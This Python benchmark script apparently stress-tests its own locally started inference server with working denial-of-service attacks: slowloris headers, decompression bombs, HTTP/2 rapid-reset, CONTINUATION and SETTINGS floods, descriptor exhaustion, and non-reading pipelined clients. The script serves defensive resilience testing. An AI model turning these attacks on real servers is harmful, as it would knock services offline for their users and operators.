"""Clients that try to exhaust a server: ``python -m benchmarks.hostile_clients [NAME …]``.

Each attack runs against its own server, which a probe asks for an inference again and again. Printed are the
slowest answer to the probe, the resident set before, at the peak and after, and the outcome of the connections.
"""

from __future__ import annotations

import argparse
import asyncio
import gzip
import json
import resource
import struct
import tempfile
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from contextlib import suppress
from pathlib import Path

import psutil
from tritonclient.grpc import service_pb2 as pb

from benchmarks.servers import ROOT, ports_and_process

_INFER = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,2],"data":[1,2]}]}'
_PATH = "/v2/models/identity_fp32/infer"
_HEAD = f"POST {_PATH} HTTP/1.1\r\nHost: localhost\r\n".encode()
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\x04\x00" + bytes(4)
#: ``:method: POST``, ``:scheme: http``, ``:path: /``, from HPACK's static table.
_BLOCK = b"\x83\x86\x84"


_PING = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00"


class Target:
    """A running server.

    Attributes
    ----------
    http, grpc : int
        Ports.
    outcomes : Counter
        What happened to the connections of the attack.
    """

    def __init__(self, http: int, grpc: int, process: psutil.Process) -> None:
        self.http, self.grpc = http, grpc
        self.outcomes: Counter[str] = Counter()
        self.resident = [process.memory_info().rss >> 20]
        self.slowest = 0.0
        self._process = process

    def limit_descriptors(self, more: int) -> None:
        """Let the server open only so many more files and connections."""
        _, hard = self._process.rlimit(psutil.RLIMIT_NOFILE)
        self._process.rlimit(psutil.RLIMIT_NOFILE, (self._process.num_fds() + more, hard))

    async def send(self, port: int, *parts: bytes, pause: float = 0.0) -> None:
        """Open a connection, send parts, and wait for its end; the outcome is the first line, or how it ended."""
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        answer = asyncio.create_task(reader.read())
        try:
            for part in parts:
                writer.write(part)
                await writer.drain()
                await asyncio.sleep(pause)
                if answer.done():
                    break
            async with asyncio.timeout(150):
                received = await answer
        except (ConnectionError, OSError, TimeoutError) as error:
            self.outcomes[type(error).__name__] += 1
            await asyncio.gather(answer, return_exceptions=True)  # it ends with the same error
            return
        writer.close()
        self.outcomes[_summary(received)] += 1

    async def probe(self) -> None:
        """Ask for an inference, again and again."""
        request = _HEAD + b"Content-Length: %d\r\n\r\n%s" % (len(_INFER), _INFER)
        reader, writer = await asyncio.open_connection("127.0.0.1", self.http)
        while True:
            begin = time.perf_counter()
            writer.write(request)
            head = await reader.readuntil(b"\r\n\r\n")
            await reader.readexactly(int(head.lower().partition(b"content-length: ")[2].split()[0]))
            self.slowest = max(self.slowest, time.perf_counter() - begin)
            self.resident.append(self._process.memory_info().rss >> 20)
            await asyncio.sleep(0.02)


def _summary(received: bytes) -> str:
    if not received:
        return "closed without a response"
    if received.startswith(b"HTTP/"):
        return received.partition(b"\r\n")[0].decode()
    at = received.find(b"\x08\x07\x00\x00\x00\x00\x00")
    return f"GOAWAY, error {received[at + 14]}" if at >= 0 and len(received) > at + 14 else "HTTP/2 frames"


async def idle(target: Target) -> None:
    """10,000 connections that send nothing, for 20 s."""
    writers = [(await asyncio.open_connection("127.0.0.1", target.http))[1] for _ in range(10_000)]
    await asyncio.sleep(20)
    target.outcomes["open"] = sum(not writer.is_closing() for writer in writers)
    for writer in writers:
        writer.close()


async def slow_heads(target: Target) -> None:
    """1,000 connections that send a byte of a head every 5 s."""
    parts = [_HEAD, *[b"X"] * 30]
    await asyncio.gather(*(target.send(target.http, *parts, pause=5) for _ in range(1000)))


async def slow_prefaces(target: Target) -> None:
    """1,000 gRPC connections that do not finish the preface."""
    await asyncio.gather(*(target.send(target.grpc, _PREFACE[:5]) for _ in range(1000)))


async def head_floods(target: Target) -> None:
    """Heads without an end: of one long header, of many headers, and of one name."""
    headers = (
        b"X: " + b"a" * 2**20,
        b"".join(b"X%d: a\r\n" % number for number in range(100_000)),
        b"X: a\r\n" * 100_000,
    )
    await asyncio.gather(*(target.send(target.http, _HEAD + flood) for flood in headers * 20))


async def huge_lengths(target: Target) -> None:
    """Bodies of up to 2^64 bytes, announced and not sent."""
    lengths = (2**31, 2**40, 2**63, 2**64, 10**40)
    await asyncio.gather(*(target.send(target.http, _HEAD + b"Content-Length: %d\r\n\r\n" % size) for size in lengths))


async def announced(target: Target) -> None:
    """1,000 bodies of 2 GiB less one byte: announced, begun, and given up after 5 s."""
    head = _HEAD + b"Content-Length: %d\r\n\r\n" % (2**31 - 1)
    writers = []
    for _ in range(1000):
        writer = (await asyncio.open_connection("127.0.0.1", target.http))[1]
        writer.write(head + bytes(1000))
        writers.append(writer)
    await asyncio.sleep(5)
    target.outcomes["given up"] = len(writers)
    for writer in writers:
        writer.close()


async def bombs(target: Target) -> None:
    """20 bodies that decompress to 1 GiB, over HTTP."""
    bomb = await asyncio.to_thread(gzip.compress, bytes(2**30), 9)
    request = _HEAD + b"Content-Encoding: gzip\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(bomb), bomb)
    for _ in range(20):
        await target.send(target.http, request)


async def resets(target: Target) -> None:
    """HTTP/2 rapid reset: 500,000 calls that are begun and reset, on one connection."""
    frames = bytearray()
    for number in range(500_000):
        stream = struct.pack(">I", 2 * number + 1)
        frames += b"\x00\x00\x03\x01\x04" + stream + _BLOCK + b"\x00\x00\x04\x03\x00" + stream + b"\x00\x00\x00\x08"
        if number % 10_000 == 0:
            await asyncio.sleep(0)  # so that the probe goes on
    await target.send(target.grpc, _PREFACE, bytes(frames))


async def pings(target: Target) -> None:
    """500,000 PING frames of a client that does not read, for 10 s."""
    _, writer = await asyncio.open_connection("127.0.0.1", target.grpc)
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    writer.write(_PREFACE + (_PING + bytes(8)) * 500_000)
    await asyncio.sleep(10)
    target.outcomes["open"] += 1
    writer.transport.abort()


async def continuations(target: Target) -> None:
    """HTTP/2 CONTINUATION floods: header blocks without an end."""
    flood = _PREFACE + b"\x00\x00\x00\x01\x00\x00\x00\x00\x01" + b"\x00\x00\x00\x09\x00\x00\x00\x00\x01" * 1000
    await asyncio.gather(*(target.send(target.grpc, flood) for _ in range(50)))


async def settings(target: Target) -> None:
    """Floods of SETTINGS frames."""
    flood = _PREFACE + (b"\x00\x00\x06\x04\x00\x00\x00\x00\x00" + struct.pack(">HI", 4, 5)) * 10_000
    await asyncio.gather(*(target.send(target.grpc, flood) for _ in range(50)))


async def descriptors(target: Target) -> None:
    """200 connections to a server with 50 file descriptors left, for 5 s; then a new client asks for an inference."""
    target.limit_descriptors(50)
    writers = [(await asyncio.open_connection("127.0.0.1", target.http))[1] for _ in range(200)]
    await asyncio.sleep(5)
    for writer in writers:
        writer.close()
    await asyncio.sleep(1)
    request = b"Connection: close\r\nContent-Length: %d\r\n\r\n%s" % (len(_INFER), _INFER)
    await target.send(target.http, _HEAD + request)


async def escapes(target: Target) -> None:
    """20 deep documents of 40 KB that end in an unfinished string of escaped quotes."""
    body = b"[" * 300 + b'"' + b'\\"' * 20_000
    await _post(target, [body] * 20)


async def shapes(target: Target) -> None:
    """20 shapes of 60,000 large integers, 1.2 MB each."""
    shape = b",".join([b"9223372036854775807"] * 60_000)
    body = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[%s],"data":[1]}]}' % shape
    await _post(target, [body] * 20)


async def documents(target: Target) -> None:
    """Bodies of 8 MB: numbers, strings, empty arrays, and inputs."""
    numbers = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,4000000],"data":[%s]}]}'
    entry = b'{"name":"INPUT0","datatype":"FP32","shape":[1,1],"data":[1]},'
    bodies = (
        numbers % b",".join([b"1"] * 4_000_000),
        numbers % b",".join([b'""'] * 2_600_000),
        numbers % b",".join([b"[]"] * 2_600_000),
        b'{"inputs":[%s{}]}' % (entry * 130_000),
    )
    await _post(target, bodies)


async def _post(target: Target, bodies: Iterable[bytes]) -> None:
    for body in bodies:
        head = _HEAD + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body)
        await target.send(target.http, head, body)


async def _never_read(target: Target, port: int, connections: int, data: bytes, seconds: float) -> None:
    """Open connections, send data for a while without reading, and close them."""

    async def send() -> None:
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.transport.pause_reading()  # type: ignore[attr-defined]
        writer.write(data)
        with suppress(TimeoutError, ConnectionError):
            async with asyncio.timeout(seconds):
                await writer.drain()
                await asyncio.sleep(seconds)
        target.outcomes["closed by the server" if writer.is_closing() else "open"] += 1
        writer.transport.abort()

    await asyncio.gather(*(send() for _ in range(connections)))


async def pipelines(target: Target) -> None:
    """40 connections that pipeline 2.6 MB of requests for metadata and never read, for 20 s."""
    request = b"GET /v2/models/identity_fp32 HTTP/1.1\r\nHost: localhost\r\n\r\n"
    await _never_read(target, target.http, 40, request * (2_600_000 // len(request)), 20)


async def large_pipelines(target: Target) -> None:
    """20 connections that pipeline 10 requests with responses of 10 MB and never read, for 20 s."""
    size = 10 << 20
    header = b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,%d],"parameters":{"binary_data_size":%d}}]'
    header = header % (size // 4, size) + b',"parameters":{"binary_data_output":true}}'
    head = b"Inference-Header-Content-Length: %d\r\nContent-Length: %d\r\n\r\n" % (len(header), len(header) + size)
    await _never_read(target, target.http, 20, (_HEAD + head + header + bytes(size)) * 10, 20)


def _message(model: str = "identity_fp32") -> bytes:
    request = pb.ModelInferRequest(model_name=model)
    request.inputs.add(name="INPUT0", datatype="FP32", shape=[2] if model == "flood" else [1, 2])
    request.raw_input_contents.append(bytes(8))
    body: bytes = request.SerializeToString()
    return struct.pack(">BI", 0, len(body)) + body


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _grpc_head(rpc: str) -> bytes:
    """Encode the headers of a call without a table."""
    fields = (b":path", b"/inference.GRPCInferenceService/" + rpc.encode()), (b"content-type", b"application/grpc")
    block = b"\x83\x86"
    for name, value in fields:
        block += b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
    return block


async def calls(target: Target) -> None:
    """270,000 gRPC calls on one connection of a client that does not read, for 30 s."""
    block, message = _grpc_head("ModelInfer"), _message()
    frames = bytearray(_PREFACE)
    for number in range(270_000):
        stream = 2 * number + 1
        frames += _frame(1, 4, stream, block) + _frame(0, 1, stream, message)
        if number % 10_000 == 0:
            await asyncio.sleep(0)  # so that the probe goes on
    await _never_read(target, target.grpc, 1, bytes(frames), 30)


async def stream(target: Target) -> None:
    """270,000 requests on one gRPC stream of a client that does not read, for 30 s."""
    part = _message() * 100
    data = _PREFACE + _frame(1, 4, 1, _grpc_head("ModelStreamInfer")) + _frame(0, 0, 1, part) * 2700
    await _never_read(target, target.grpc, 1, data, 30)


_FLOOD = """
import threading
import numpy as np
import triton_python_backend_utils as pb_utils

class TritonPythonModel:
    def execute(self, requests):
        for request in requests:
            threading.Thread(target=self.send, args=(request.get_response_sender(),), daemon=True).start()

    def send(self, sender):
        array = np.zeros(1 << 20, np.float32)
        for _ in range(1000):
            if sender.is_cancelled():
                break
            sender.send(pb_utils.InferenceResponse([pb_utils.Tensor("OUTPUT0", array)]))
        sender.send(flags=pb_utils.TRITONSERVER_RESPONSE_COMPLETE_FINAL)
"""
_FLOOD_CONFIG = """backend: "python" input { name: "INPUT0" data_type: TYPE_FP32 dims: [ 2 ] }
output { name: "OUTPUT0" data_type: TYPE_FP32 dims: -1 } model_transaction_policy { decoupled: true }"""


async def slow_streams(target: Target) -> None:
    """Eight gRPC streams of a decoupled model with 1,000 responses of 4 MB, of clients that do not read, for 10 s."""
    message = _message("flood")
    data = _PREFACE + _frame(1, 4, 1, _grpc_head("ModelStreamInfer")) + _frame(0, 0, 1, message)
    await _never_read(target, target.grpc, 8, data, 10)


async def slow_event_streams(target: Target) -> None:
    """The same over HTTP, with ``generate_stream``: the model's output in JSON."""
    body = b'{"INPUT0":[1,2]}'
    head = b"POST /v2/models/flood/generate_stream HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n"
    await _never_read(target, target.http, 8, head % len(body) + body, 10)


async def grpc_bombs(target: Target) -> None:
    """20 gRPC messages that decompress to 1 GiB."""
    bomb = await asyncio.to_thread(gzip.compress, bytes(2**30), 9)
    body = struct.pack(">BI", 1, len(bomb)) + bomb
    block = _grpc_head("ModelInfer") + b"\x00\x0dgrpc-encoding\x04gzip"
    parts = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
    data = _frame(1, 4, 1, block) + b"".join(_frame(0, 0, 1, part) for part in parts) + _frame(0, 1, 1, b"")
    await asyncio.gather(*(_never_read(target, target.grpc, 1, _PREFACE + data, 5) for _ in range(20)))


async def counts(target: Target) -> None:
    """Load requests with an instance count, a batch size and a number of sequences of 2^31 - 1."""
    large = 2**31 - 1
    edits: tuple[dict[str, object], ...] = (
        {"instance_group": [{"count": large}]},
        {"max_batch_size": large, "sequence_batching": {}},
        {"sequence_batching": {"oldest": {"max_candidate_sequences": large}}},
    )
    for edit in edits:
        body = json.dumps({"parameters": {"config": json.dumps({"backend": "python", **edit})}}).encode()
        head = b"POST /v2/repository/models/identity_fp32/load HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
        await target.send(target.http, head + b"Content-Length: %d\r\n\r\n" % len(body), body)


Attack = Callable[[Target], Awaitable[None]]
ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        *(idle, slow_heads, slow_prefaces, head_floods, huge_lengths, announced, bombs, resets, pings),
        *(continuations, settings, descriptors, escapes, shapes, documents, pipelines, large_pipelines),
        *(calls, stream, slow_streams, slow_event_streams, grpc_bombs, counts),
    )
}


async def _attack(target: Target, attack: Attack) -> None:
    probing = asyncio.create_task(target.probe())
    await asyncio.sleep(1)
    await attack(target)
    await asyncio.sleep(1)
    if probing.done():
        await probing  # it failed
    probing.cancel()


def _run(attack: Attack, repository: str) -> None:
    with ports_and_process(repository, "--model-control-mode=explicit", "--load-model=*") as (http, grpc, process):
        target = Target(http, grpc, process)
        begin = time.monotonic()
        asyncio.run(_attack(target, attack))
        seconds = time.monotonic() - begin
    memory = f"{target.resident[0]} MB before, {max(target.resident)} MB at the peak, {target.resident[-1]} MB after"
    outcomes = json.dumps(dict(target.outcomes))
    print(
        f"{attack.__name__} ({seconds:.0f} s): slowest answer {target.slowest * 1e3:.0f} ms; {memory}; {outcomes}",
        flush=True,
    )


def main() -> None:
    """Run the attacks that are named, or all of them."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("names", nargs="*", metavar="NAME", help="all if omitted")
    options = parser.parse_args()
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))  # the server inherits it
    with tempfile.TemporaryDirectory() as scratch:
        (Path(scratch) / "identity_fp32").symlink_to(ROOT / "model_repository" / "identity_fp32")
        (Path(scratch) / "flood" / "1").mkdir(parents=True)
        (Path(scratch) / "flood" / "1" / "model.py").write_text(_FLOOD)
        (Path(scratch) / "flood" / "config.pbtxt").write_text(_FLOOD_CONFIG)
        for name in options.names or ATTACKS:
            _run(ATTACKS[name], scratch)


if __name__ == "__main__":
    main()
